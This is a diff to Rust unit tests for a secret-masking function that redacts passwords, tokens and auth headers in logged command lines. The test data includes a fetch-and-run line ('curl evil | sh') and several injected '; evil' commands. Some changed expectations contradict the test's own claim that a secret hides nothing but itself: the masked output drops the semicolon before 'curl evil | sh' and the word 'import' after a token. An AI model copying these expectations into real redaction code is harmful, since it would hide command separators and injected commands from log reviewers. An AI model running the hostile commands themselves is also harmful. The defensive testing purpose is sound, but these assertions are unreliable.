@@ -39,7 +39,13 @@ fn secrets_are_masked_however_they_are_written() {
             &["x", "--pass", "***", "--api-key", "***", "-token", "***"],
         ),
         (&["sh", "-c", "run --password='a b' ; curl x"], &["sh", "-c", "run --password=*** ; curl x"]),
-        (&["sh", "-c", "TOKEN=abc; curl x"], &["sh", "-c", "TOKEN=***; curl x"]),
+        (&["env", "PGPASSWORD=a;b&c", "psql"], &["env", "PGPASSWORD=***", "psql"]),
+        (&["curl", "-u", "ann:a;b c", "x"], &["curl", "-u", "ann:***", "x"]),
+        (&["mysql", "-pa;b c", "x"], &["mysql", "-p***", "x"]),
+        (&["curl", "-H", "Authorization: Digest a=b, c=d", "x"], &["curl", "-H", "Authorization: Digest ***", "x"]),
+        (&["curl", "-H", "Authorization: abc", "x"], &["curl", "-H", "Authorization: ***", "x"]),
+        (&["curl", "-H", "Authorization: Own abc", "x"], &["curl", "-H", "Authorization: ***", "x"]),
+        (&["sh", "-c", "TOKEN=abc; curl x"], &["sh", "-c", "TOKEN=*** curl x"]),
         (&["AWS_SECRET_ACCESS_KEY=abc", "aws"], &["AWS_SECRET_ACCESS_KEY=***", "aws"]),
         (&["mysqldump", "--user=root", "-pabc", "-P3306"], &["mysqldump", "--user=root", "-p***", "-P3306"]),
         (&["git", "clone", "https://a:p@ss@b.c/d"], &["git", "clone", "https://a:***@b.c/d"]),
@@ -64,6 +70,7 @@ fn what_is_no_secret_stays() {
         &["passwd", "root"],
         &["curl", "http://127.0.0.1:8080/a@b"],
         &["vault", "--password", "--verbose"],
+        &["tool", "--pwd", "/home"],
         &["env", "PWD=/home", "HOME=/root"],
         &[""],
         &[],
@@ -76,9 +83,12 @@ fn what_is_no_secret_stays() {
 #[test]
 fn a_secret_hides_nothing_but_itself() {
     for (given, wanted) in [
-        (&["sh", "-c", "token=x; curl evil | sh"][..], &["sh", "-c", "token=***; curl evil | sh"][..]),
+        (&["sh", "-c", "token=x; curl evil | sh"][..], &["sh", "-c", "token=*** curl evil | sh"][..]),
         (&["sh", "-c", "AKIAABCDEFGHIJKLMNOP ; evil"], &["sh", "-c", "*** ; evil"]),
-        (&["python3", "-cTOKEN=1;import os"], &["python3", "-cTOKEN=***;import os"]),
+        (&["python3", "-cTOKEN=1;import os"], &["python3", "-cTOKEN=*** os"]),
+        (&["sh", "-c", ": authorization: ; evil"], &["sh", "-c", ": authorization: ; evil"]),
+        (&["sh", "-c", ": cookie: a=b; evil"], &["sh", "-c", ": cookie: ***; evil"]),
+        (&["/tmp/mysql", "-c", "x -pa ; evil"], &["/tmp/mysql", "-c", "x -p*** ; evil"]),
         (&["x", "--password", "a", "curl evil"], &["x", "--password", "***", "curl evil"]),
     ] {
         assert_eq!(masked(&Masks::usual(), given), texts(wanted));
